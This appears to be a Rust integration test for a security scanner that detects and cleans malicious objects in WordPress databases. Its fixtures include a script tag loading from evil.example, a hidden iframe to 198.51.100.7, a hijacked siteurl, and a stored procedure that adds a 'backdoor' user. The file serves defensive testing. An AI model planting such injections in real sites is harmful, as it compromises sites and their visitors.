//! Database objects of WordPress sites (issue 28) against a real MariaDB the test starts:
//! `mariadb-install-db` into the test's directory, `mariadbd` on a socket there (no
//! networking). A site whose `wp-config.php` points at it has a hijacked `siteurl`, a script
//! injected into a widget and a post with a foreign iframe; a deep scan of the real daemon
//! finds them, `POST /api/v1/fix` cleans the options and the post after backing them up,
//! the backups are listed and previewable, and the database holds the clean values.

use crate::common::*;
use crate::firewall::post;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use serde_json::{json, Value};

const PASSWORD: &str = "S3cret-site-pw";

/// A MariaDB server in `dir`, stopped on drop.
struct Mariadb {
    child: Child,
    socket: PathBuf,
}

impl Mariadb {
    fn start(dir: &Path) -> Mariadb {
        let data = dir.join("data");
        let out = Command::new("mariadb-install-db")
            .args(["--no-defaults", "--user=root", "--skip-test-db"])
            .arg(format!("--datadir={}", data.display()))
            .output()
            .expect("mariadb-install-db (Debian mariadb-server) must be installed");
        assert!(
            out.status.success(),
            "mariadb-install-db: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let socket = dir.join("mysqld.sock");
        let child = Command::new("mariadbd")
            .args(["--no-defaults", "--user=root", "--skip-networking"])
            .arg(format!("--datadir={}", data.display()))
            .arg(format!("--socket={}", socket.display()))
            .arg(format!("--pid-file={}", dir.join("mysqld.pid").display()))
            .arg(format!("--log-error={}", dir.join("mysqld.err").display()))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("mariadbd (Debian mariadb-server) must be installed");
        let m = Mariadb { child, socket };
        wait_until(60, "mariadbd to accept connections", || {
            m.try_sql("SELECT 1").ok().map(|_| ())
        });
        m
    }

    fn try_sql(&self, sql: &str) -> Result<String, String> {
        let out = Command::new("mariadb")
            .args([
                "--no-defaults",
                "-uroot",
                "--batch",
                "--skip-column-names",
                "--raw",
            ])
            .arg(format!("--socket={}", self.socket.display()))
            .args(["-e", sql])
            .output()
            .map_err(|e| e.to_string())?;
        if out.status.success() {
            Ok(String::from_utf8_lossy(&out.stdout).into_owned())
        } else {
            Err(String::from_utf8_lossy(&out.stderr).into_owned())
        }
    }

    fn sql(&self, sql: &str) -> String {
        self.try_sql(sql).unwrap_or_else(|e| panic!("{sql}: {e}"))
    }
}

impl Drop for Mariadb {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `s:N:"text";` inside a widget option's serialized array.
fn widget(text: &str) -> String {
    format!(
        "a:2:{{i:2;a:2:{{s:5:\"title\";s:4:\"News\";s:4:\"text\";s:{}:\"{text}\";}}s:12:\"_multiwidget\";i:1;}}",
        text.len()
    )
}

fn scan(d: &Daemon, kind: &str) {
    let r = post(d, "/api/v1/scan-jobs", ADMIN, json!({ "kind": kind }));
    r.expect(202);
    let id = r.json()["id"].as_i64().unwrap();
    wait_until(180, "the scan job to finish", || {
        let j = d.get(&format!("/api/v1/scan-jobs/{id}"), READ).json();
        (j["state"] == "done").then_some(())
    });
}

fn finding_with(fs: &[Value], needle: &str) -> Value {
    fs.iter()
        .find(|f| f["details"].as_str().unwrap_or("").contains(needle))
        .cloned()
        .unwrap_or_else(|| panic!("no finding with {needle}: {fs:?}"))
}

#[test]
fn sitedb_injected_option_is_found_backed_up_and_cleaned() {
    let dir = temp_dir("sitedb");
    let db = Mariadb::start(&dir);
    db.sql(&format!(
        "CREATE DATABASE wpsite; CREATE USER 'wpsite'@'localhost' IDENTIFIED BY '{PASSWORD}'; \
         GRANT ALL ON wpsite.* TO 'wpsite'@'localhost';"
    ));
    let injected = "Hello<script src='https://evil.example/x.js'></script>";
    db.sql(&format!(
        "USE wpsite; \
         CREATE TABLE wp_options (option_id BIGINT UNSIGNED AUTO_INCREMENT PRIMARY KEY, \
           option_name VARCHAR(191) NOT NULL UNIQUE, option_value LONGTEXT NOT NULL, \
           autoload VARCHAR(20) NOT NULL DEFAULT 'yes'); \
         CREATE TABLE wp_posts (ID BIGINT UNSIGNED AUTO_INCREMENT PRIMARY KEY, \
           post_content LONGTEXT NOT NULL, post_status VARCHAR(20) NOT NULL DEFAULT 'publish'); \
         INSERT INTO wp_options (option_name, option_value) VALUES \
           ('siteurl', 'https://evil.example'), ('home', 'https://example.org'), \
           ('blogname', '<script>not a watched option</script>'), \
           ('widget_text', '{}'), ('widget_block', '{}'); \
         INSERT INTO wp_posts (post_content, post_status) VALUES \
           ('<p>Map</p><iframe src=\"https://example.org/map\"></iframe>', 'publish'), \
           ('<p>Deal</p><iframe src=\"https://198.51.100.7/c\" width=0></iframe>', 'publish');",
        widget(injected).replace('\'', "''"),
        widget("<p>Opening hours</p>"),
    ));

    let www = dir.join("fixture/var/www/site");
    std::fs::create_dir_all(&www).unwrap();
    let config = www.join("wp-config.php");
    std::fs::write(
        &config,
        format!(
            "<?php\ndefine( 'DB_NAME', 'wpsite' );\ndefine( 'DB_USER', 'wpsite' );\ndefine( 'DB_PASSWORD', '{PASSWORD}' );\ndefine( 'DB_HOST', 'localhost:{}' );\n$table_prefix = 'wp_';\n",
            db.socket.display()
        ),
    )
    .unwrap();
    let root = dir.join("fixture").display().to_string();
    let d = start_in_dir(
        dir.clone(),
        &format!("[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n"),
        &[],
    );
    scan(&d, "deep");

    let options = findings_of(&d, "db_option_injected");
    assert_eq!(options.len(), 2, "{options:?}");
    let siteurl = finding_with(&options, "option=siteurl");
    let widget_f = finding_with(&options, "option=widget_text");
    assert_eq!(siteurl["path"], config.display().to_string());
    assert!(siteurl["details"]
        .as_str()
        .unwrap()
        .ends_with("siteurl points to evil.example"));
    let posts = findings_of(&d, "db_post_injected");
    assert_eq!(posts.len(), 1, "{posts:?}");
    assert!(posts[0]["details"]
        .as_str()
        .unwrap()
        .ends_with("iframe from 198.51.100.7"));
    let all = d.get("/api/v1/findings?limit=10000", READ).text();
    assert!(!all.contains(PASSWORD), "a finding shows the password");

    // Nothing is backed up before a fix.
    let none = d.get("/api/v1/db-object-backups", ADMIN).expect(200).json();
    assert_eq!(none["total"], 0);

    let r = post(&d, "/api/v1/fix", ADMIN, json!({ "id": widget_f["id"] }));
    r.expect(200);
    let fixed = r.json();
    assert_eq!(fixed["fixed"]["action"], "clean_db_option");
    let key = fixed["fixed"]["backup_key"].as_str().unwrap().to_string();
    post(&d, "/api/v1/fix", ADMIN, json!({ "id": siteurl["id"] })).expect(200);
    // Fixed once: the finding is resolved and a second fix finds nothing to do.
    let again = post(&d, "/api/v1/fix", ADMIN, json!({ "id": widget_f["id"] }));
    assert_ne!(again.status, 200, "{}", again.text());

    let r = post(&d, "/api/v1/fix", ADMIN, json!({ "id": posts[0]["id"] }));
    r.expect(200);
    let fixed_post = r.json();
    assert_eq!(fixed_post["fixed"]["action"], "clean_db_post");
    let post_key = fixed_post["fixed"]["backup_key"]
        .as_str()
        .unwrap()
        .to_string();

    let list = d.get("/api/v1/db-object-backups", ADMIN).expect(200).json();
    assert_eq!(list["total"], 3, "{list}");
    let post_item = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["key"] == post_key.as_str())
        .cloned()
        .unwrap();
    assert_eq!(post_item["kind"], "post");
    assert_eq!(post_item["name"], "wp_posts.2");
    let post_preview = d
        .get(
            &format!("/api/v1/db-object-backup-preview?key={post_key}"),
            ADMIN,
        )
        .expect(200)
        .json();
    let post_statement = post_preview["statement"].as_str().unwrap().to_string();
    assert!(post_statement.starts_with("UPDATE `wp_posts` SET post_content = X'"));
    let item = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["key"] == key.as_str())
        .cloned()
        .unwrap();
    assert_eq!(item["kind"], "option");
    assert_eq!(item["name"], "wp_options.widget_text");
    assert_eq!(item["database"], "wpsite");
    let preview = d
        .get(
            &format!("/api/v1/db-object-backup-preview?key={key}"),
            ADMIN,
        )
        .expect(200)
        .json();
    let statement = preview["statement"].as_str().unwrap();
    assert!(statement.starts_with("UPDATE `wp_options` SET option_value = X'"));
    assert_eq!(preview["truncated"], false);

    // The database holds the clean values; the backup's statement puts the old one back.
    let clean =
        db.sql("SELECT option_value FROM wpsite.wp_options WHERE option_name = 'widget_text'");
    assert_eq!(clean.trim_end(), widget("Hello"));
    let url = db.sql("SELECT option_value FROM wpsite.wp_options WHERE option_name = 'siteurl'");
    assert_eq!(url.trim_end(), "https://example.org");
    db.sql(&format!("USE wpsite; {statement}"));
    let back =
        db.sql("SELECT option_value FROM wpsite.wp_options WHERE option_name = 'widget_text'");
    assert_eq!(back.trim_end(), widget(injected));
    // The post lost its foreign iframe only; the site's own map stays.
    let content = db.sql("SELECT post_content FROM wpsite.wp_posts ORDER BY ID");
    assert_eq!(
        content.trim_end(),
        "<p>Map</p><iframe src=\"https://example.org/map\"></iframe>\n<p>Deal</p>"
    );
    db.sql(&format!("USE wpsite; {post_statement}"));
    let back = db.sql("SELECT post_content FROM wpsite.wp_posts WHERE ID = 2");
    assert_eq!(
        back.trim_end(),
        "<p>Deal</p><iframe src=\"https://198.51.100.7/c\" width=0></iframe>"
    );
    assert!(!d.stderr().contains(PASSWORD), "the log shows the password");
}

/// Issue 41: a trigger on `wp_users`, an event, a procedure writing `wp_users` and a
/// function decoding base64 are found by a deep scan (a benign function is not); each fix
/// keeps the exact `SHOW CREATE` statement and drops the object; a restore puts one back
/// (409 while it exists, 404 for an unknown key).
#[test]
fn sitedb_injected_triggers_events_and_routines_are_dropped_and_restored() {
    let dir = temp_dir("sitedb-objects");
    let db = Mariadb::start(&dir);
    db.sql(&format!(
        "CREATE DATABASE wpsite; CREATE USER 'wpsite'@'localhost' IDENTIFIED BY '{PASSWORD}'; \
         GRANT ALL ON wpsite.* TO 'wpsite'@'localhost';"
    ));
    db.sql(
        "USE wpsite; \
         CREATE TABLE wp_options (option_id BIGINT UNSIGNED AUTO_INCREMENT PRIMARY KEY, \
           option_name VARCHAR(191) NOT NULL UNIQUE, option_value LONGTEXT NOT NULL); \
         CREATE TABLE wp_posts (ID BIGINT UNSIGNED AUTO_INCREMENT PRIMARY KEY, \
           post_content LONGTEXT NOT NULL, post_status VARCHAR(20) NOT NULL DEFAULT 'publish'); \
         CREATE TABLE wp_users (ID BIGINT UNSIGNED AUTO_INCREMENT PRIMARY KEY, \
           user_login VARCHAR(60) NOT NULL); \
         INSERT INTO wp_options (option_name, option_value) VALUES \
           ('siteurl', 'https://example.org'), ('home', 'https://example.org'); \
         CREATE DEFINER='wpsite'@'localhost' TRIGGER wp_backdoor AFTER INSERT ON wp_users \
           FOR EACH ROW SET @last_user = NEW.ID; \
         CREATE DEFINER='wpsite'@'localhost' EVENT wp_cleanup ON SCHEDULE EVERY 1 HOUR \
           DO DELETE FROM wp_posts WHERE 1 = 0; \
         CREATE DEFINER='wpsite'@'localhost' PROCEDURE `add admin`() \
           INSERT INTO wp_users (user_login) VALUES ('backdoor'); \
         CREATE DEFINER='wpsite'@'localhost' FUNCTION wp_decode(s TEXT) RETURNS TEXT \
           DETERMINISTIC RETURN FROM_BASE64(s); \
         CREATE DEFINER='wpsite'@'localhost' FUNCTION wp_slugify(s TEXT) RETURNS TEXT \
           DETERMINISTIC RETURN LOWER(REPLACE(s, ' ', '-'));",
    );

    let www = dir.join("fixture/var/www/site");
    std::fs::create_dir_all(&www).unwrap();
    let config = www.join("wp-config.php");
    std::fs::write(
        &config,
        format!(
            "<?php\ndefine( 'DB_NAME', 'wpsite' );\ndefine( 'DB_USER', 'wpsite' );\ndefine( 'DB_PASSWORD', '{PASSWORD}' );\ndefine( 'DB_HOST', 'localhost:{}' );\n$table_prefix = 'wp_';\n",
            db.socket.display()
        ),
    )
    .unwrap();
    let root = dir.join("fixture").display().to_string();
    let d = start_in_dir(
        dir.clone(),
        &format!("[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n"),
        &[],
    );
    scan(&d, "deep");

    let triggers = findings_of(&d, "db_trigger_injected");
    assert_eq!(triggers.len(), 1, "{triggers:?}");
    assert_eq!(triggers[0]["severity"], "CRITICAL");
    assert_eq!(triggers[0]["path"], config.display().to_string());
    assert!(triggers[0]["message"]
        .as_str()
        .unwrap()
        .contains("trigger `wp_backdoor`"));
    assert!(triggers[0]["details"]
        .as_str()
        .unwrap()
        .ends_with("table=wp_users: a trigger on wp_users (WordPress ships none)"));
    let events = findings_of(&d, "db_event_injected");
    assert_eq!(events.len(), 1, "{events:?}");
    let routines = findings_of(&d, "db_routine_injected");
    assert_eq!(routines.len(), 2, "{routines:?}");
    let procedure = finding_with(&routines, "name=\"add admin\"");
    assert!(procedure["details"]
        .as_str()
        .unwrap()
        .ends_with("a procedure whose body writes to wp_users (INSERT)"));
    let function = finding_with(&routines, "FROM_BASE64");
    assert!(function["details"]
        .as_str()
        .unwrap()
        .contains("name=\"wp_decode\""));
    let all = d.get("/api/v1/findings?limit=10000", READ).text();
    assert!(!all.contains("wp_slugify"), "a benign function is flagged");
    assert!(!all.contains(PASSWORD), "a finding shows the password");

    let mut keys = Vec::new();
    for (f, action, kind) in [
        (&triggers[0], "drop_db_trigger", "trigger"),
        (&events[0], "drop_db_event", "event"),
        (&procedure, "drop_db_routine", "procedure"),
        (&function, "drop_db_routine", "function"),
    ] {
        let r = post(&d, "/api/v1/fix", ADMIN, json!({ "id": f["id"] }));
        r.expect(200);
        let fixed = r.json();
        assert_eq!(fixed["fixed"]["action"], action);
        let key = fixed["fixed"]["backup_key"].as_str().unwrap().to_string();
        let preview = d
            .get(
                &format!("/api/v1/db-object-backup-preview?key={key}"),
                ADMIN,
            )
            .expect(200)
            .json();
        assert_eq!(preview["kind"], kind);
        assert_eq!(preview["database"], "wpsite");
        let statement = preview["statement"].as_str().unwrap();
        assert!(
            statement.starts_with("CREATE DEFINER=`wpsite`@`localhost`"),
            "{statement}"
        );
        assert!(
            statement.contains(&kind.to_uppercase()),
            "{kind}: {statement}"
        );
        keys.push((kind, preview["name"].as_str().unwrap().to_string(), key));
    }
    let preview = |i: usize| {
        d.get(
            &format!("/api/v1/db-object-backup-preview?key={}", keys[i].2),
            ADMIN,
        )
        .json()["statement"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert!(preview(0).contains("FOR EACH ROW SET @last_user = NEW.ID"));
    assert!(preview(2).contains("INSERT INTO wp_users (user_login) VALUES ('backdoor')"));
    assert_eq!(keys[2].1, "add admin");

    // The objects are gone; the benign function stays.
    let left = |sql: &str| db.sql(sql).trim_end().to_string();
    assert_eq!(
        left("SELECT COUNT(*) FROM information_schema.TRIGGERS WHERE TRIGGER_SCHEMA = 'wpsite'"),
        "0"
    );
    assert_eq!(
        left("SELECT COUNT(*) FROM information_schema.EVENTS WHERE EVENT_SCHEMA = 'wpsite'"),
        "0"
    );
    assert_eq!(
        left("SELECT GROUP_CONCAT(ROUTINE_NAME) FROM information_schema.ROUTINES WHERE ROUTINE_SCHEMA = 'wpsite'"),
        "wp_slugify"
    );
    // Fixed once: a second fix refuses.
    let again = post(&d, "/api/v1/fix", ADMIN, json!({ "id": procedure["id"] }));
    assert_ne!(again.status, 200, "{}", again.text());

    // Restore the procedure: back, with its body; a second restore finds it there.
    let r = post(
        &d,
        "/api/v1/db-object-backups/restore",
        ADMIN,
        json!({ "key": keys[2].2 }),
    );
    r.expect(200);
    assert_eq!(r.json()["name"], "add admin");
    assert_eq!(
        left("SELECT ROUTINE_DEFINITION FROM information_schema.ROUTINES WHERE ROUTINE_SCHEMA = 'wpsite' AND ROUTINE_NAME = 'add admin'"),
        "INSERT INTO wp_users (user_login) VALUES ('backdoor')"
    );
    post(
        &d,
        "/api/v1/db-object-backups/restore",
        ADMIN,
        json!({ "key": keys[2].2 }),
    )
    .expect(409);
    post(
        &d,
        "/api/v1/db-object-backups/restore",
        ADMIN,
        json!({ "key": "0123456789abcdef" }),
    )
    .expect(404);
    post(
        &d,
        "/api/v1/db-object-backups/restore",
        READ,
        json!({ "key": keys[0].2 }),
    )
    .expect(403);
    // The trigger comes back too.
    post(
        &d,
        "/api/v1/db-object-backups/restore",
        ADMIN,
        json!({ "key": keys[0].2 }),
    )
    .expect(200);
    assert_eq!(
        left(
            "SELECT TRIGGER_NAME FROM information_schema.TRIGGERS WHERE TRIGGER_SCHEMA = 'wpsite'"
        ),
        "wp_backdoor"
    );
    assert!(!d.stderr().contains(PASSWORD), "the log shows the password");
}
